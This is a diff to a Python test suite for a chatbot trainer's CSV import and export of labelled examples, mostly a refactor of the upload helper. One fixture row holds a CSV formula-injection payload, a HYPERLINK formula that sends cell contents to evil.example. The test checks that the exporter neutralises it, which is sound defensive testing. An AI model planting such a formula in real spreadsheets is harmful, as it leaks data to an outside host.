@@ -17,7 +17,7 @@ from bot.db.engine import make_engine
 from bot.desk import retrain_lock
 from bot.desk.model_history import ModelHistory
 from bot.desk.models import CURRENT_VERSION, ensure_desk_schema
-from tests.desk.conftest import FakeRasa, add_agent, free_port, now_utc
+from tests.desk.conftest import FakeRasa, add_agent, free_port, now_utc, upload_examples_csv
 
 HEADER = "language,text,intent,labelled_by,labelled_at\r\n"
 
@@ -32,13 +32,6 @@ def people(desk, journal):
     for name, role in (("tom", "trainer"), ("sue", "supervisor"), ("ann", "tier1")):
         add_agent(journal, name, role)
     return {name: desk.login(name) for name in ("tom", "sue", "ann")}
-
-
-def upload(desk, token, body: str | bytes):
-    data = body.encode("utf-8") if isinstance(body, str) else body
-    return desk.api(
-        "POST", "/api/trainer/examples.csv", token, data=data, headers={"Content-Type": "text/csv"}
-    )
 
 
 def rows_of(desk, token, query=""):
@@ -61,7 +54,7 @@ def test_import_then_export_round_trips_through_reviewed_yml(desk, people, tmp_p
         'en,=1+2 refund now,request_refund,"=HYPERLINK(""http://evil.example/?""&A2,""x"")",\r\n'
         "pt,não chegou meu produto SO-77,track_order,,\r\n"  # the same message: once
     )
-    reply = upload(desk, people["tom"], body)
+    reply = upload_examples_csv(desk, people["tom"], body)
     assert reply.status_code == 200, reply.text
     assert reply.json() == {"imported": 3, "skipped": 1}
     pt = reviewed(tmp_path, "pt")
@@ -90,7 +83,9 @@ def test_import_then_export_round_trips_through_reviewed_yml(desk, people, tmp_p
     assert by_text["'=1+2 refund now"]["labelled_by"] == '\'=HYPERLINK("http://evil.example/?"&A2,"x")'
     assert [row["language"] for row in rows_of(desk, people["tom"], "?lang=pt")] == ["pt"]
     # ...and taken off again when the same file comes back: nothing new, nothing doubled.
-    again = upload(desk, people["tom"], desk.api("GET", "/api/trainer/examples.csv", people["tom"]).content)
+    again = upload_examples_csv(
+        desk, people["tom"], desk.api("GET", "/api/trainer/examples.csv", people["tom"]).content
+    )
     assert again.json() == {"imported": 0, "skipped": 3}
     assert len(rows_of(desk, people["tom"])) == 3
     # The inbox treats imported labels as its own: their groups are answered.
@@ -98,8 +93,13 @@ def test_import_then_export_round_trips_through_reviewed_yml(desk, people, tmp_p
 
 
 def test_a_relabelled_message_moves_to_its_new_intent(desk, people, tmp_path):
-    assert upload(desk, people["tom"], HEADER + "en,my parcel is late,track_order,,\r\n").status_code == 200
-    reply = upload(desk, people["tom"], HEADER + "en,My parcel is LATE,urge_shipment,,\r\n")
+    assert (
+        upload_examples_csv(
+            desk, people["tom"], HEADER + "en,my parcel is late,track_order,,\r\n"
+        ).status_code
+        == 200
+    )
+    reply = upload_examples_csv(desk, people["tom"], HEADER + "en,My parcel is LATE,urge_shipment,,\r\n")
     assert reply.json() == {"imported": 1, "skipped": 0}
     assert [(r["text"], r["intent"]) for r in rows_of(desk, people["tom"])] == [
         ("My parcel is LATE", "urge_shipment")
@@ -117,7 +117,7 @@ def test_bad_rows_are_named_by_line_and_nothing_is_written(desk, people, tmp_pat
         "en,fine row,greet,,\r\n"
         "en,no utc instant,track_order,bob,0001-01-01T00:00:00+01:00\r\n"
     )
-    reply = upload(desk, people["tom"], body)
+    reply = upload_examples_csv(desk, people["tom"], body)
     assert reply.status_code == 400
     message = reply.json()["error"]
     for expected in (
@@ -146,14 +146,14 @@ def test_bad_rows_are_named_by_line_and_nothing_is_written(desk, people, tmp_pat
     ],
 )
 def test_unreadable_files_get_a_clear_400(desk, people, body, expected):
-    reply = upload(desk, people["tom"], body)
+    reply = upload_examples_csv(desk, people["tom"], body)
     assert reply.status_code == 400, reply.text
     assert expected in reply.json()["error"]
 
 
 def test_a_utf8_file_with_a_byte_order_mark_is_read(desk, people):
     body = ("\ufeff" + "language,text,intent\r\nth,พัสดุยังไม่มา,track_order\r\n").encode("utf-8")
-    assert upload(desk, people["sue"], body).json() == {"imported": 1, "skipped": 0}
+    assert upload_examples_csv(desk, people["sue"], body).json() == {"imported": 1, "skipped": 0}
     assert rows_of(desk, people["sue"])[0]["text"] == "พัสดุยังไม่มา"
 
 
@@ -285,11 +285,11 @@ def test_an_import_into_two_languages_is_written_in_both_or_neither(desk, people
     refused.parent.mkdir(parents=True)
     refused.write_text('version: "3.1"\nnlu:\n- regex: pedido\n  examples: |\n    - \\d+\n', encoding="utf-8")
     body = HEADER + "en,my parcel is late,track_order,,\r\npt,meu pacote atrasou,track_order,,\r\n"
-    reply = upload(desk, people["tom"], body)
+    reply = upload_examples_csv(desk, people["tom"], body)
     assert reply.status_code == 409 and "only intent blocks" in reply.json()["error"]
     assert not (tmp_path / "nlu" / "en" / "reviewed.yml").exists()
     refused.unlink()
-    assert upload(desk, people["tom"], body).json() == {"imported": 2, "skipped": 0}
+    assert upload_examples_csv(desk, people["tom"], body).json() == {"imported": 2, "skipped": 0}
 
 
 def test_a_hand_written_block_string_is_exported_an_example_a_line(desk, people, tmp_path):
@@ -309,7 +309,7 @@ def test_times_in_utc_written_with_z_are_read(desk, people):
         "en,my parcel is late,track_order,amy,2024-05-01T10:00:00Z\r\n"
         "en,where is my refund,request_refund,amy,2024-05-01T10:00:00.123Z\r\n"  # JavaScript's toISOString
     )
-    reply = upload(desk, people["tom"], body)
+    reply = upload_examples_csv(desk, people["tom"], body)
     assert reply.status_code == 200, reply.text
     assert {row["text"]: row["labelled_at"] for row in rows_of(desk, people["tom"])} == {
         "my parcel is late": "2024-05-01T10:00:00+00:00",
